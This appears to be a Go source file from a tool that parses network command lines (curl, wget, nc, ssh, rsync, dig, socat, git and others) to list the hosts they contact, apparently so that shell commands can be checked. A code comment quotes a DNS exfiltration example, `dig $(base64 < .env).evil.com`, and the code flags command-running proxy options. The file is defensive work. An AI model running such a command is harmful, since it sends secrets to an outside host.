package command

import (
	"strings"

	"vibing/internal/hostaddr"
)

// The network commands whose arguments name the hosts they contact, each
// read the way it reads them (hosts.go uses this table). An option the
// table does not know is taken for a flag; its value then reads as an
// operand, which can only add hosts (or make the line unknown), never hide
// one.

// argForm is how a word names a host.
type argForm int

const (
	formNone      argForm = iota
	formURL               // a URL; without scheme, http:// (curl, wget)
	formAddr              // [user@]host[:port], or a URL (nc, ssh, ping)
	formProxy             // a proxy: URL or host:port
	formRemote            // scp/rsync: [user@]host:path, host::module, scheme://host; else local
	formRemoteOr          // sftp: like formRemote, and a bare word is a host
	formDNS               // dig/host/nslookup: names and @server; record types and +options pass
	formHostList          // ssh -J: comma-separated [user@]host[:port]
	formSSHOpt            // ssh -o Key=Value: ProxyJump, HostName, ProxyCommand
	formResolve           // curl --resolve host:port:addr[,addr]
	formConnectTo         // curl --connect-to h1:p1:h2:p2
	formWgetExec          // wget -e setting: a proxy setting names a host
	formRsh               // rsync -e: a ProxyCommand cannot be checked
	formHTTPie            // operands: [METHOD] URL [items]
	formFile              // the targets are read from this file: unknown
)

// netTool describes one network command.
type netTool struct {
	short  string             // short options that take a value
	long   []string           // long options that take a value when not written --opt=value
	opts   map[string]argForm // options whose value names a host (or a file of targets)
	ops    argForm            // how operands are read
	first  bool               // only the first operand names a host (ssh HOST CMD, nc HOST PORT)
	ports  bool               // nc: later operands are hosts unless they are ports
	listen string             // short options that make it listen (nc -l): operands bind, not contact
}

var (
	curlTool = &netTool{
		short: "AbcCdDeEFhHKmoPQrtTuUwxXyYz",
		long: []string{"--abstract-unix-socket", "--alt-svc", "--aws-sigv4", "--cacert", "--capath", "--cert", "--cert-type",
			"--ciphers", "--config", "--connect-timeout", "--connect-to", "--continue-at", "--cookie", "--cookie-jar",
			"--create-file-mode", "--crlfile", "--curves", "--data", "--data-ascii", "--data-binary", "--data-raw",
			"--data-urlencode", "--delegation", "--dns-interface", "--dns-ipv4-addr", "--dns-ipv6-addr", "--dns-servers",
			"--doh-url", "--dump-header", "--ech", "--egd-file", "--engine", "--etag-compare", "--etag-save",
			"--expect100-timeout", "--form", "--form-string", "--ftp-account", "--ftp-alternative-to-user", "--ftp-method",
			"--ftp-port", "--ftp-ssl-ccc-mode", "--happy-eyeballs-timeout-ms", "--haproxy-clientip", "--header",
			"--hostpubmd5", "--hostpubsha256", "--hsts", "--interface", "--ip-tos", "--ipfs-gateway", "--json",
			"--keepalive-cnt", "--keepalive-time", "--key", "--key-type", "--krb", "--libcurl", "--limit-rate",
			"--local-port", "--login-options", "--mail-auth", "--mail-from", "--mail-rcpt", "--max-filesize",
			"--max-redirs", "--max-time", "--netrc-file", "--noproxy", "--oauth2-bearer", "--output", "--output-dir",
			"--parallel-max", "--pass", "--pinnedpubkey", "--preproxy", "--proto", "--proto-default", "--proto-redir",
			"--proxy", "--proxy-cacert", "--proxy-capath", "--proxy-cert", "--proxy-cert-type", "--proxy-ciphers",
			"--proxy-crlfile", "--proxy-header", "--proxy-key", "--proxy-key-type", "--proxy-pass", "--proxy-pinnedpubkey",
			"--proxy-service-name", "--proxy-tls13-ciphers", "--proxy-tlsauthtype", "--proxy-tlspassword",
			"--proxy-tlsuser", "--proxy-user", "--proxy1.0", "--pubkey", "--quote", "--random-file", "--range", "--rate",
			"--referer", "--request", "--request-target", "--resolve", "--retry", "--retry-delay", "--retry-max-time",
			"--sasl-authzid", "--service-name", "--socks4", "--socks4a", "--socks5", "--socks5-gssapi-service",
			"--socks5-hostname", "--speed-limit", "--speed-time", "--stderr", "--telnet-option", "--tftp-blksize",
			"--time-cond", "--tls-max", "--tls13-ciphers", "--tlsauthtype", "--tlspassword", "--tlsuser", "--trace",
			"--trace-ascii", "--trace-config", "--unix-socket", "--upload-file", "--url", "--url-query", "--user",
			"--user-agent", "--variable", "--write-out"},
		opts: map[string]argForm{"-x": formProxy, "--proxy": formProxy, "--preproxy": formProxy, "--proxy1.0": formProxy,
			"--socks4": formProxy, "--socks4a": formProxy, "--socks5": formProxy, "--socks5-hostname": formProxy,
			"--url": formURL, "--doh-url": formURL, "--resolve": formResolve, "--connect-to": formConnectTo,
			"-K": formFile, "--config": formFile},
		ops: formURL,
	}
	wgetTool = &netTool{
		short: "eoaiBtOTwQPlARDIXU",
		long: []string{"--execute", "--output-file", "--append-output", "--input-file", "--base", "--config", "--tries",
			"--output-document", "--timeout", "--dns-timeout", "--connect-timeout", "--read-timeout", "--wait",
			"--waitretry", "--quota", "--bind-address", "--limit-rate", "--directory-prefix", "--cut-dirs", "--user",
			"--password", "--http-user", "--http-password", "--header", "--referer", "--user-agent", "--post-data",
			"--post-file", "--method", "--body-data", "--body-file", "--load-cookies", "--save-cookies", "--certificate",
			"--certificate-type", "--private-key", "--private-key-type", "--ca-certificate", "--ca-directory", "--level",
			"--accept", "--reject", "--domains", "--exclude-domains", "--include-directories", "--exclude-directories",
			"--default-page", "--ftp-user", "--ftp-password", "--local-encoding", "--remote-encoding", "--accept-regex",
			"--reject-regex", "--regex-type", "--progress", "--secure-protocol", "--ciphers", "--backups",
			"--retry-on-http-error", "--start-pos", "--hsts-file", "--warc-file", "--input-metalink", "--use-askpass",
			"--restrict-file-names", "--prefer-family"},
		opts: map[string]argForm{"-e": formWgetExec, "--execute": formWgetExec, "-i": formFile, "--input-file": formFile,
			"--config": formFile, "--input-metalink": formFile},
		ops: formURL,
	}
	aria2Tool = &netTool{
		short: "dioljsxktmTMUuO",
		long: []string{"--dir", "--out", "--input-file", "--log", "--max-concurrent-downloads", "--split",
			"--max-connection-per-server", "--min-split-size", "--timeout", "--max-tries", "--torrent-file",
			"--metalink-file", "--user-agent", "--header", "--all-proxy", "--http-proxy", "--https-proxy", "--ftp-proxy",
			"--http-user", "--http-passwd", "--ftp-user", "--ftp-passwd", "--load-cookies", "--save-cookies", "--referer",
			"--checksum", "--index-out", "--max-download-limit", "--max-overall-download-limit", "--max-upload-limit",
			"--seed-time", "--conf-path"},
		opts: map[string]argForm{"--all-proxy": formProxy, "--http-proxy": formProxy, "--https-proxy": formProxy,
			"--ftp-proxy": formProxy, "-i": formFile, "--input-file": formFile, "-T": formFile, "--torrent-file": formFile,
			"-M": formFile, "--metalink-file": formFile, "--conf-path": formFile},
		ops: formURL,
	}
	httpieTool = &netTool{
		short: "oaAps",
		long: []string{"--output", "--auth", "--auth-type", "--print", "--style", "--session", "--session-read-only",
			"--verify", "--cert", "--cert-key", "--cert-key-pass", "--proxy", "--pretty", "--format-options", "--timeout",
			"--max-redirects", "--ssl", "--ciphers", "--response-charset", "--response-mime", "--boundary",
			"--unix-socket", "--default-scheme", "--max-headers", "--bearer", "--resolve", "--interface", "--http-version"},
		opts: map[string]argForm{"--proxy": formProxy},
		ops:  formHTTPie,
	}
	ncTool = &netTool{
		short:  "ceGgIiMmOoPpqsTVWwXx",
		long:   []string{"--proxy", "--proxy-type", "--proxy-auth", "--sh-exec", "--exec", "--lua-exec", "--output", "--hex-dump", "--append-output", "--source-port", "--source", "--wait", "--idle-timeout", "--delay"},
		opts:   map[string]argForm{"-x": formProxy, "--proxy": formProxy, "-g": formAddr},
		ops:    formAddr,
		ports:  true,
		listen: "l",
	}
	sshTool = &netTool{short: "BbcDEeFIiJLlmOoPpQRSWw", opts: map[string]argForm{"-J": formHostList, "-o": formSSHOpt, "-F": formFile, "-W": formAddr},
		ops: formAddr, first: true}
	scpTool  = &netTool{short: "cFiJloPSDX", opts: map[string]argForm{"-J": formHostList, "-o": formSSHOpt, "-F": formFile, "-S": formFile}, ops: formRemote}
	sftpTool = &netTool{short: "BbcDFiJloPRSsX", opts: map[string]argForm{"-J": formHostList, "-o": formSSHOpt, "-F": formFile, "-S": formFile}, ops: formRemoteOr, first: true}
	rsync    = &netTool{
		short: "eBfTM",
		long: []string{"--rsh", "--rsync-path", "--filter", "--exclude", "--include", "--exclude-from", "--include-from",
			"--files-from", "--temp-dir", "--compare-dest", "--copy-dest", "--link-dest", "--backup-dir", "--suffix",
			"--chmod", "--chown", "--port", "--password-file", "--log-file", "--log-file-format", "--out-format",
			"--timeout", "--contimeout", "--bwlimit", "--partial-dir", "--max-size", "--min-size", "--block-size",
			"--modify-window", "--address", "--sockopts", "--outbuf", "--info", "--debug", "--usermap", "--groupmap",
			"--iconv", "--checksum-choice", "--compress-choice", "--compress-level", "--skip-compress", "--max-delete",
			"--stop-after", "--stop-at", "--write-batch", "--read-batch", "--only-write-batch", "--protocol",
			"--remote-option", "--checksum-seed", "--max-alloc"},
		opts: map[string]argForm{"-e": formRsh, "--rsh": formRsh},
		ops:  formRemote,
	}
	pingTool  = &netTool{short: "cFiIlmMpQsStTwW", ops: formAddr, first: true}
	traceTool = &netTool{short: "fgimNpqstwzlMO", ops: formAddr, first: true}
	dnsTool   = &netTool{short: "bcfkpqtxyNRWm", opts: map[string]argForm{"-q": formDNS, "-f": formFile}, ops: formDNS}
	hostTool  = &netTool{short: "belnSXkpP", ops: formAddr, first: true} // telnet, ftp, tftp, mosh: HOST [PORT]
	lftpTool  = &netTool{short: "upefc", opts: map[string]argForm{"-f": formFile, "-c": formFile, "-e": formFile}, ops: formAddr, first: true}
)

// netTools are the network commands by name.
var netTools = Table[map[string]*netTool]{Make: func() map[string]*netTool {
	return map[string]*netTool{
		"curl": curlTool, "wget": wgetTool, "wget2": wgetTool, "aria2c": aria2Tool,
		"http": httpieTool, "https": httpieTool, "xh": httpieTool, "xhs": httpieTool,
		"nc": ncTool, "ncat": ncTool, "netcat": ncTool,
		"ssh": sshTool, "scp": scpTool, "sftp": sftpTool, "rsync": rsync,
		"ping": pingTool, "ping6": pingTool, "traceroute": traceTool, "traceroute6": traceTool,
		"dig": dnsTool, "host": dnsTool, "nslookup": dnsTool,
		"telnet": hostTool, "ftp": hostTool, "tftp": hostTool, "mosh": hostTool, "lftp": lftpTool,
		"socat": {}, "openssl": {},
	}
}}

func (t *netTool) takesLong(opt string) bool {
	if _, ok := t.opts[opt]; ok {
		return true
	}
	for _, l := range t.long {
		if l == opt {
			return true
		}
	}
	return false
}

// scan reads the command's options and operands.
func (t *netTool) scan(s *hostScan, args []string) {
	switch s.name {
	case "socat":
		s.socat(args)
		return
	case "openssl":
		for i := 0; i+1 < len(args); i++ {
			if args[i] == "-connect" || args[i] == "-proxy" {
				s.addrArg(args[i+1])
			}
		}
		return
	}
	var ops []string
	listen := false
	for i := 0; i < len(args); i++ {
		a := args[i]
		switch {
		case a == "--":
			ops = append(ops, args[i+1:]...)
			i = len(args)
		case len(a) < 2 || a[0] != '-':
			ops = append(ops, a)
		case strings.HasPrefix(a, "--"):
			opt, val, has := strings.Cut(a, "=")
			if !has && t.takesLong(opt) && i+1 < len(args) {
				i++
				val, has = args[i], true
			}
			listen = listen || opt == "--listen"
			if has {
				s.option(t, opt, val)
			}
		default:
			for j := 1; j < len(a); j++ {
				if strings.IndexByte(t.listen, a[j]) >= 0 {
					listen = true
				}
				if strings.IndexByte(t.short, a[j]) < 0 {
					continue
				}
				val := a[j+1:]
				if val == "" && i+1 < len(args) {
					i++
					val = args[i]
				}
				s.option(t, "-"+a[j:j+1], val)
				break
			}
		}
	}
	if listen {
		return
	}
	if t.ops == formHTTPie {
		s.httpie(ops)
		return
	}
	for k, op := range ops {
		switch {
		case k > 0 && t.first:
			return
		case k > 0 && t.ports:
			if p, whole := s.known(op); whole && isPorts(p) {
				continue
			}
		}
		s.read(t.ops, op)
	}
}

// isPorts reports whether w is a port, a range or a list of them (nc).
func isPorts(w string) bool {
	return w != "" && strings.Trim(w, "0123456789-,") == ""
}

// option reads an option's value when it names a host.
func (s *hostScan) option(t *netTool, opt, val string) {
	if f, ok := t.opts[opt]; ok {
		s.read(f, val)
	}
}

// read reads one word of the given form.
func (s *hostScan) read(f argForm, w string) {
	switch f {
	case formURL:
		s.urlArg(w)
	case formAddr:
		s.addrArg(w)
	case formProxy:
		s.proxyArg(w)
	case formRemote, formRemoteOr:
		s.remoteArg(w, f == formRemoteOr)
	case formDNS:
		s.dnsArg(w)
	case formFile:
		if p, whole := s.known(w); !whole || p != "/dev/null" {
			s.dunno("%s reads what it contacts from %s", s.name, w)
		}
	default:
		p, whole := s.known(w)
		if !whole {
			s.runTime(w)
			return
		}
		s.special(f, p)
	}
}

// special reads the option values of one command's own syntax.
func (s *hostScan) special(f argForm, p string) {
	switch f {
	case formHostList:
		for _, h := range strings.Split(p, ",") {
			if h != "none" && h != "" {
				s.addrArg(h)
			}
		}
	case formSSHOpt:
		k, v, ok := strings.Cut(p, "=")
		if !ok {
			k, v, _ = strings.Cut(p, " ")
		}
		v = strings.TrimSpace(v)
		switch strings.ToLower(strings.TrimSpace(k)) {
		case "proxyjump":
			s.special(formHostList, v)
		case "hostname":
			s.addrArg(v)
		case "proxycommand":
			if v != "none" {
				s.dunno("%s -o ProxyCommand runs a command", s.name)
			}
		}
	case formResolve:
		if strings.HasPrefix(p, "-") {
			return // removes an entry
		}
		if parts := splitColons(strings.TrimPrefix(p, "+")); len(parts) >= 3 {
			for _, a := range strings.Split(strings.Join(parts[2:], ":"), ",") {
				if a = strings.TrimSpace(a); a != "" {
					s.host(a, p)
				}
			}
		}
	case formConnectTo:
		if parts := splitColons(p); len(parts) >= 3 && parts[2] != "" {
			s.host(parts[2], p)
		}
	case formWgetExec:
		k, v, _ := strings.Cut(p, "=")
		k = strings.ToLower(strings.TrimSpace(k))
		if strings.HasSuffix(k, "_proxy") && k != "no_proxy" {
			s.proxyArg(strings.TrimSpace(v))
		}
	case formRsh:
		if strings.Contains(strings.ToLower(p), "proxycommand") {
			s.dunno("%s -e runs a ProxyCommand", s.name)
		}
	}
}

// dnsTypes are the record types and classes dig and host take as operands.
var dnsTypes = map[string]bool{"A": true, "AAAA": true, "ANY": true, "AXFR": true, "CAA": true, "CNAME": true,
	"DNSKEY": true, "DS": true, "HINFO": true, "HTTPS": true, "IXFR": true, "MX": true, "NAPTR": true, "NS": true,
	"NSEC": true, "NSEC3": true, "PTR": true, "SOA": true, "SPF": true, "SRV": true, "SSHFP": true, "SVCB": true,
	"TLSA": true, "TXT": true, "URI": true, "IN": true, "CH": true, "HS": true}

// dnsArg reads a dig/host/nslookup operand. A name that is computed at run
// time is unknown: `dig $(base64 < .env).evil.com` sends data out.
func (s *hostScan) dnsArg(w string) {
	p, whole := s.known(w)
	switch {
	case !whole:
		s.runTime(w)
	case strings.HasPrefix(p, "+"), dnsTypes[strings.ToUpper(p)]:
	case strings.HasPrefix(p, "@"):
		s.addrArg(p[1:])
	default:
		if h, err := hostaddr.NormHost(p); err == nil {
			s.add(h)
		}
	}
}

// httpMethods are the methods HTTPie and xh take in lower case too.
var httpMethods = map[string]bool{"get": true, "post": true, "put": true, "patch": true, "delete": true, "head": true, "options": true}

// httpie reads `http [METHOD] URL [items]`; ":3000/x" is localhost.
func (s *hostScan) httpie(ops []string) {
	if len(ops) > 1 {
		if m := ops[0]; httpMethods[strings.ToLower(m)] || (m != "" && strings.Trim(m, "ABCDEFGHIJKLMNOPQRSTUVWXYZ") == "") {
			ops = ops[1:]
		}
	}
	if len(ops) == 0 {
		return
	}
	u := ops[0]
	if strings.HasPrefix(u, ":") {
		u = "localhost" + u
	}
	s.urlArg(u)
}

// socatHosts are socat's address types by how many hosts lead their
// parameters (SOCKS4:sockshost:host:port).
var socatHosts = map[string]int{"tcp": 1, "tcp4": 1, "tcp6": 1, "tcp-connect": 1, "tcp4-connect": 1, "tcp6-connect": 1,
	"udp": 1, "udp4": 1, "udp6": 1, "udp-connect": 1, "udp4-connect": 1, "udp6-connect": 1, "udp-sendto": 1,
	"udp4-sendto": 1, "udp6-sendto": 1, "udp-datagram": 1, "openssl": 1, "openssl-connect": 1, "ssl": 1,
	"sctp": 1, "sctp-connect": 1, "sctp4-connect": 1, "sctp6-connect": 1, "dccp-connect": 1, "udplite-connect": 1,
	"socks4": 2, "socks4a": 2, "socks5": 2, "socks5-connect": 2, "proxy": 2, "proxy-connect": 2}

// socat reads its two addresses (options are -b N, -t N, -lf FILE, ...).
func (s *hostScan) socat(args []string) {
	for i := 0; i < len(args); i++ {
		a := args[i]
		if len(a) > 1 && a[0] == '-' {
			switch a {
			case "-b", "-t", "-T", "-L", "-W", "-lf", "-lp", "-r", "-R":
				i++
			}
			continue
		}
		p, whole := s.known(a)
		for _, addr := range strings.Split(p, "!!") {
			typ, params, _ := strings.Cut(addr, ":")
			typ = strings.ToLower(typ)
			if typ == "exec" || typ == "system" {
				s.dunno("socat runs a command")
				continue
			}
			n := socatHosts[typ]
			if n == 0 {
				continue
			}
			if !whole {
				s.runTime(a)
				return
			}
			params, _, _ = strings.Cut(params, ",")
			parts := splitColons(params)
			for k := 0; k < n && k < len(parts); k++ {
				s.host(parts[k], a)
			}
		}
	}
}

// gitRemoteSubs are the git subcommands that contact a remote.
var gitRemoteSubs = map[string]bool{"clone": true, "fetch": true, "pull": true, "push": true, "ls-remote": true,
	"remote": true, "submodule": true, "archive": true, "fetch-pack": true, "send-pack": true, "request-pull": true}

// git reads `git [-C dir] [-c k=v] SUB ...`: the repository of clone,
// fetch, pull, push, ls-remote, remote add/set-url, submodule add and
// archive --remote when it is a URL or user@host:path (a remote's name
// names no host here: it is in the repository's configuration). It
// reports whether the subcommand contacts a remote.
func (s *hostScan) git(args []string) bool {
	i := 0
	for i < len(args) {
		a := args[i]
		if a == "-c" && i+1 < len(args) {
			s.gitConfig(args[i+1])
		}
		if a == "-C" || a == "-c" || a == "--git-dir" || a == "--work-tree" || a == "--namespace" || a == "--config-env" {
			i += 2
			continue
		}
		if !strings.HasPrefix(a, "-") {
			break
		}
		i++
	}
	if i >= len(args) || !gitRemoteSubs[args[i]] {
		return false
	}
	sub, rest := args[i], args[i+1:]
	firstOnly := sub == "fetch" || sub == "pull" || sub == "push" || sub == "ls-remote" || sub == "archive"
	n := 0
	for k := 0; k < len(rest); k++ {
		a := rest[k]
		if v, ok := strings.CutPrefix(a, "--remote="); ok {
			s.gitRepo(v, true)
			continue
		}
		if a == "--remote" && k+1 < len(rest) {
			k++
			s.gitRepo(rest[k], true)
			continue
		}
		if a == "-c" || a == "--config" {
			if k+1 < len(rest) {
				k++
				s.gitConfig(rest[k])
			}
			continue
		}
		if v, ok := strings.CutPrefix(a, "--repo="); ok {
			s.gitRepo(v, true)
			continue
		}
		if gitValueOpts[a] {
			k++ // the option's value
			continue
		}
		if strings.HasPrefix(a, "-") || (sub == "archive") {
			continue
		}
		n++
		if !firstOnly || n == 1 {
			s.gitRepo(a, n == 1 || sub != "clone")
		}
	}
	return true
}

// gitValueOpts are the options of git's remote subcommands that take the
// next word as their value.
var gitValueOpts = map[string]bool{"-o": true, "--push-option": true, "--receive-pack": true, "--exec": true,
	"--upload-pack": true, "-u": true, "--depth": true, "--deepen": true, "--shallow-since": true,
	"--shallow-exclude": true, "-j": true, "--jobs": true, "--negotiation-tip": true, "--refmap": true,
	"--server-option": true, "--filter": true, "-b": true, "--branch": true, "--origin": true, "--reference": true,
	"--reference-if-able": true, "--separate-git-dir": true, "--template": true, "--bundle-uri": true, "-t": true,
	"--track": true, "-m": true, "--name": true}

// gitRepo reads a repository argument: scheme://host/..., [user@]host:path,
// or transport::address (ext:: runs a command). strict: a word that may
// name a remote but does not read makes the line unknown.
func (s *hostScan) gitRepo(w string, strict bool) {
	p, whole := s.known(w)
	if strings.HasPrefix(p, "ext::") {
		s.dunno("git runs the command of an ext:: remote")
		return
	}
	if i := strings.Index(p, "::"); i > 0 && !strings.ContainsAny(p[:i], "/:@[") {
		w = w[i+2:] // another transport helper: its address
		p = p[i+2:]
	}
	if strings.Contains(p, "://") {
		s.urlArg(w)
		return
	}
	i := colonOutsideBrackets(p)
	switch {
	case i < 0 && !whole && strict && !strings.ContainsRune(p, '/'):
		s.runTime(w)
	case i <= 0 || strings.ContainsRune(p[:i], '/'):
		// a remote's name or a local path
	default:
		h := p[:i]
		if j := strings.LastIndexByte(h, '@'); j >= 0 {
			h = h[j+1:]
		}
		if c, err := hostaddr.NormHost(h); err == nil {
			s.add(c)
		} else if strict {
			s.host(h, w)
		}
	}
}

// gitConfig reads a -c name=value: URLs in it count (http.proxy,
// url.<base>.insteadOf); a command that reaches the remote cannot be checked.
func (s *hostScan) gitConfig(kv string) {
	k, _, _ := strings.Cut(kv, "=")
	switch k = strings.ToLower(k); {
	case k == "core.sshcommand" || k == "core.gitproxy" || strings.HasSuffix(k, ".proxycommand"):
		s.dunno("git -c %s runs a command", k)
	case strings.HasSuffix(k, "proxy"):
		_, v, _ := strings.Cut(kv, "=")
		if v != "" {
			s.proxyArg(v)
		}
	}
	s.urls([]string{kv})
}
